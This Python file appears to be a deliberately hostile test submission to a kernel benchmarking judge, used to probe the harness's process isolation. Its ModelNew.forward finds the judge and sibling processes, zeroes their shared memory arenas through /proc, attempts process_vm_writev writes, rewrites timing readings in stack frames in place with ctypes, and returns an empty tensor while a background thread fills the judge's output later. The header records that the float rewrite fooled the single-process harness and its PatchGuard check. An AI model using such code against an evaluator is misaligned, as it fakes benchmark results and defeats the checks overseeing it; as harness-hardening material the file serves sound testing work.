# ruff: noqa  (hostile or templated submission source: placeholders like __PORT__ are filled by the test)
# White-box 3: raw memory writes through ctypes, into this process and into the evaluator's.
#
# Written from kernel_service/judging/transport.py, zygote.py and sides.py. The judge's arenas are memfds named
# "ks-arena" that the judge maps and passes to each side; the sides are forked by a zygote the judge
# started, so the judge is the zygote's parent and the reference side is this process's sibling, forked
# from the same image (objects made before the fork sit at the same addresses in both). On its third
# call (both sides' arenas exist by then) this:
#   * finds the judge (the zygote's parent) and the sibling sides, and tries to reach their memory:
#     their "ks-arena" memfds through /proc/<pid>/fd (to map the reference's output arena and zero it),
#     /proc/<pid>/mem, and process_vm_readv/process_vm_writev at an address valid in every fork;
# and once timed, forward returns an unfilled tensor at once and a thread computes the result and
# ctypes.memmove()s it into the judge's output arena after the side has answered, so that the judge would
# read a right result that took no time; timing readings found in frames (floats) get their value
# overwritten in place with ctypes (the float object, its identity, unchanged).
#
# Against the single-process harness the in-place float writes worked (tried: correct, speedup 1e9): the harness's `new_times` list was
# reachable from forward's frames, and a float whose value changes under it is no patch to PatchGuard.
import ctypes
import os
import sys
import threading
import time

import torch
import torch.nn as nn

state = {"timed": False, "calls": 0, "said": set(), "side": None}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
#: Readings of the submission's calls (made tiny) and of the reference's (made large), by local name.
OWN_TIMES = {"new_times", "new_raw", "kernel_raw", "times", "samples", "readings"}
REF_TIMES = {"ref_times", "ref_raw"}


def say(what):
    if what not in state["said"]:
        state["said"].add(what)
        print(what, flush=True)


def ppid_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def children_of(pid):
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            return [int(p) for p in f.read().split()]
    except OSError:
        return []


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def vm_rw(pid, addr, buf, write):
    """process_vm_readv / process_vm_writev of len(buf) bytes at ``addr`` in ``pid``."""
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), len(buf))
    remote = IoVec(addr, len(buf))
    nr = 311 if write else 310  # x86_64
    one, zero = ctypes.c_ulong(1), ctypes.c_ulong(0)
    n = libc.syscall(
        ctypes.c_long(nr), ctypes.c_long(pid), ctypes.byref(local), one, ctypes.byref(remote), one, zero
    )
    return n, ctypes.get_errno()


def attack_process(label, pid):
    """Everything a forked sibling could try against another process's memory; each result printed."""
    # 1. its memfds (the judge maps every side's arenas; the reference side maps its own)
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        say(f"WB-BLOCKED {label}: /proc/{pid}/fd: {exc.strerror}")
        fds = []
    unreadable = 0
    for fd in fds:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            unreadable += 1
            continue
        if "ks-arena" not in target:
            continue
        try:
            mfd = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR)
        except OSError as exc:
            say(f"WB-BLOCKED {label}: open its arena {target}: {exc.strerror}")
            continue
        import mmap

        size = os.fstat(mfd).st_size
        m = mmap.mmap(mfd, size)
        m[: min(size, 1 << 20)] = bytes(min(size, 1 << 20))  # zero what the judge reads from it
        say(f"WB-REACHED {label}: mapped and zeroed its arena {target} ({size} bytes)")
    if fds and unreadable == len(fds):
        say(f"WB-BLOCKED {label}: none of its {len(fds)} fds could be followed")
    # 2. /proc/<pid>/mem
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0):
            say(f"WB-REACHED {label}: /proc/{pid}/mem opened for writing")
    except OSError as exc:
        say(f"WB-BLOCKED {label}: /proc/{pid}/mem: {exc.strerror}")
    # 3. process_vm_readv/writev at the address of an object made before the zygote forked (the torch
    #    module: the same address in every fork of the zygote); the write puts back the bytes just read
    buf = ctypes.create_string_buffer(16)
    n, err = vm_rw(pid, id(torch), buf, write=False)
    if n != 16:
        say(f"WB-BLOCKED {label}: process_vm_readv: {n}, {os.strerror(err)}")
        return
    say(f"WB-REACHED {label}: process_vm_readv read pid {pid}'s memory")
    n, err = vm_rw(pid, id(torch), buf, write=True)
    if n == 16:
        say(f"WB-REACHED {label}: process_vm_writev wrote into pid {pid}")
    else:
        say(f"WB-BLOCKED {label}: process_vm_writev: {n}, {os.strerror(err)}")


def attack_other_processes():
    me, zygote = os.getpid(), os.getppid()
    try:
        judge = ppid_of(zygote)
    except OSError:
        judge = 0
    targets = [("zygote", zygote)] + ([("judge", judge)] if judge > 1 else [])
    targets += [("sibling side", p) for p in children_of(zygote) if p != me]
    say(f"WB-HIT pids: me {me}, zygote {zygote}, judge {judge}, siblings {[p for _, p in targets[2:]]}")
    for label, pid in targets:
        try:
            attack_process(label, pid)
        except Exception as exc:
            say(f"WB-BLOCKED {label}: {type(exc).__name__}: {exc}")


def overwrite_float(value, new):
    """Change a float object's value in place (CPython: the double follows the refcount and type)."""
    ctypes.memmove(id(value) + 2 * ctypes.sizeof(ctypes.c_void_p), ctypes.byref(ctypes.c_double(new)), 8)


def frames():
    """Readings in the frames above forward get their value rewritten; the Side object is kept."""
    f = sys._getframe(2)
    while f is not None:
        if f.f_code.co_name == "op_probe":
            state["timed"] = True
        loc = f.f_locals
        me = loc.get("self")
        if me is not None and hasattr(me, "out_region") and hasattr(me, "in_region"):
            state["side"] = me
        for name, value in loc.items():
            if name in OWN_TIMES | REF_TIMES and isinstance(value, list):
                for v in value:
                    if type(v) is float:
                        overwrite_float(v, 1e-6 if name in OWN_TIMES else 1e3)
                        say(f"WB-HIT float reading in {name} rewritten in place")
        f = f.f_back


def fill_later(x, w, arena, n):
    """After the side has answered: the real result, written into the judge's output arena."""
    time.sleep(0.002)
    result = (x @ w).contiguous()
    ctypes.memmove(arena, result.data_ptr(), n)
    say("WB-CHEAT: result memmoved into the judge's output arena after the answer")


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.weight = nn.Parameter(torch.randn(n, n))

    def forward(self, x):
        state["calls"] += 1
        if state["calls"] == 3:  # the judge has made both sides' arenas by now
            attack_other_processes()
        frames()
        side = state["side"]
        if not (state["timed"] or state["calls"] > 4) or side is None or side.out_region is None:
            return x @ self.weight
        out = torch.zeros(x.shape[0], self.weight.shape[1])
        n = out.numel() * 4
        if side.out_region.numel() >= n:
            args = (x.clone(), self.weight.detach(), side.out_region.data_ptr(), n)
            threading.Thread(target=fill_later, args=args, daemon=True).start()
        return out
